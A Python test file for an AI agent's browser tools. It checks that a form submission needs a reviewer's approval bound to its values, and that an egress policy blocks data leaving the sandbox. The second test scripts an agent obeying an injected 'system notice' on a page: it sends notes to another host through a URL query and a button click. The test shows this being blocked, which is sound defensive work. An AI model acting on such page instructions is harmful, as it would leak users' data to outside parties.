"""Browser tasks through the runner: a form submitted only with a reviewer's approval that is
bound to the values it sends, and a page that tells the model to send data elsewhere."""

from __future__ import annotations

import contextlib
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import async_playwright

from agent.approvals import decide, pending_approval
from agent.events import EgressDecided
from agent.runner import Runner
from agent.store import Store
from browser.manager import connect
from frontends.cli import main
from policies import Gate
from sandbox.limits import SandboxLimits
from sandbox.manager import Sandboxes
from tools import Registry
from tools.browser import registry as browser_tools

from .conftest import REPO, pending, request_args, scripted, tool_results
from .site_server import (  # noqa: F401 - fixtures, used by name
    Site,
    sandboxes_fixture,
    serve_site,
    sites_fixture,
)

#: the port examples/browser_demo.json expects its pages on
DEMO_PORT = 8765
#: the README's config for the demo: its site is on this host's loopback
LOCAL_SITE = ["--config", str(REPO / "examples" / "local-site.toml")]


@contextlib.asynccontextmanager
async def _task(
    store: Store, sandboxes: Sandboxes, turns: list[Any], task: str, limits: SandboxLimits
) -> AsyncIterator[tuple[Runner, str]]:
    """A runner of the browser tools driven by `turns`, and a task of it; its sandbox and the
    runner's browsers go at the end."""
    runner = Runner(
        store, Registry(browser_tools), Gate.default(), planner=scripted(turns), sandboxes=sandboxes
    )
    task_id = runner.create(task, sandbox=limits)
    try:
        yield runner, task_id
    finally:
        await sandboxes.release(task_id)
        assert runner.browsers is not None
        await runner.browsers.aclose()


async def test_a_submission_waits_for_a_reviewer_who_sees_its_values_and_is_asked_again_if_they_change(  # noqa: E501
    store: Store, sandboxes: Sandboxes, sites: tuple[Site, Site]
) -> None:
    site, _ = sites
    turns = [
        {"plan": ["Sign up"]},
        {"tool": "browser_open", "args": {"url": site.url("site/form.html")}},
        {
            "tool": "fill_form",
            "args": {"fields": {"Full name": "Ann Lee", "Email": "ann@example.com"}},
        },
        {"tool": "browser_click", "args": {"target": "Create account"}},
        {"tool": "browser_snapshot", "args": {}},
        {"answer": "signed up"},
    ]
    limits = SandboxLimits(network="proxy", allow_domains=(site.host,))
    async with _task(store, sandboxes, turns, "sign Ann up", limits) as (runner, task_id):
        state = await runner.run(task_id)
        assert state.status == "awaiting_approval"
        request = pending_approval(state)
        assert request is not None
        assert f'"origin": "http://{site.host}"' in request.preview
        assert '"name": "Ann Lee"' in request.preview
        assert '"email": "ann@example.com"' in request.preview
        assert site.posted() == []

        # The page changes a value after the reviewer looked: the approval no longer holds.
        box = await sandboxes.for_task(task_id, limits)
        assert box.devtools is not None
        async with async_playwright() as playwright:
            browser = await connect(playwright, box)
            page = browser.contexts[0].pages[0]
            await page.fill("#name", "Mallory")
            await browser.close()
        decide(store, state, pending(state), approved=True, reviewer="rev")
        state = await runner.run(task_id)
        assert state.status == "awaiting_approval"
        again = pending_approval(state)
        assert again is not None
        assert again.approval_id != request.approval_id
        assert '"name": "Mallory"' in again.preview
        assert "submits.values.name: 'Ann Lee' -> 'Mallory'" in again.reason
        assert site.posted() == []

        decide(store, state, pending(state), approved=True, reviewer="rev")
        state = await runner.run(task_id)
        assert state.status == "done"
        [posted] = site.posted()
        assert (posted["name"], posted["email"]) == (["Mallory"], ["ann@example.com"])
        results = tool_results(store, task_id)
        assert "Thank you" in results[-1].content


async def test_a_page_that_tells_the_model_to_send_data_elsewhere_gets_nothing_out(
    store: Store, sandboxes: Sandboxes, sites: tuple[Site, Site]
) -> None:
    site, elsewhere = sites
    collect = elsewhere.url("collect")
    turns = [
        {"plan": ["Read the notes"]},
        {"tool": "browser_open", "args": {"url": site.url(f"site/exfil.html?to={collect}")}},
        {"tool": "browser_snapshot", "args": {}},
        # The model obeys the page, both ways it says.
        {"tool": "browser_open", "args": {"url": collect + "?notes=Revenue+grew+4%25"}},
        {"tool": "browser_open", "args": {"url": site.url(f"site/exfil.html?to={collect}")}},
        {"tool": "browser_click", "args": {"target": "Back up notes"}},
        {"tool": "browser_wait", "args": {"target": "text=failed"}},
        {"answer": "revenue grew 4%"},
    ]
    limits = SandboxLimits(network="proxy", allow_domains=(site.host,))
    async with _task(store, sandboxes, turns, "summarise the notes", limits) as (runner, task_id):
        state = await runner.run(task_id)
        assert state.status == "done"
        results = tool_results(store, task_id)
        snapshot = results[1].content
        assert "IMPORTANT SYSTEM NOTICE" in snapshot
        assert snapshot.startswith("<page-content>")
        refused = results[2]
        assert not refused.ok
        assert "refused by the egress policy" in refused.content
        assert elsewhere.requests == []  # nothing arrived
        events = [e.event for e in store.events(task_id)]
        attempts = [e for e in events if isinstance(e, EgressDecided)]
        out = [e for e in attempts if e.port == elsewhere.port]
        assert {e.method for e in out} >= {"GET", "POST"}
        assert not any(e.allowed for e in out)


def test_the_readme_browser_example_runs_and_asks_before_it_submits(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    script = REPO / "examples" / "browser_demo.json"
    with serve_site(DEMO_PORT) as site:
        code = main(
            [
                "run",
                "--model",
                f"scripted:{script}",
                "--allow-domain",
                f"127.0.0.1:{DEMO_PORT}",
                *LOCAL_SITE,
                "--json",
                "sign Ann Lee up on the local form",
            ],
            stdin=io.StringIO("y\n"),
        )
        out = capsys.readouterr().out
        result = json.loads(out.strip().splitlines()[-1])
        assert (code, result["status"]) == (3, "awaiting_approval"), out  # 3: waits for a reviewer
        assert site.posted() == []
        task_id = result["task_id"]
        assert main(["approve", *request_args(task_id), *LOCAL_SITE]) == 0
        assert main(["resume", task_id, *LOCAL_SITE, "--json"]) == 0
        result = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
        assert result["status"] == "done"
        [posted] = site.posted()
        assert posted["name"] == ["Ann Lee"]
        assert posted["plan"] == ["pro"]
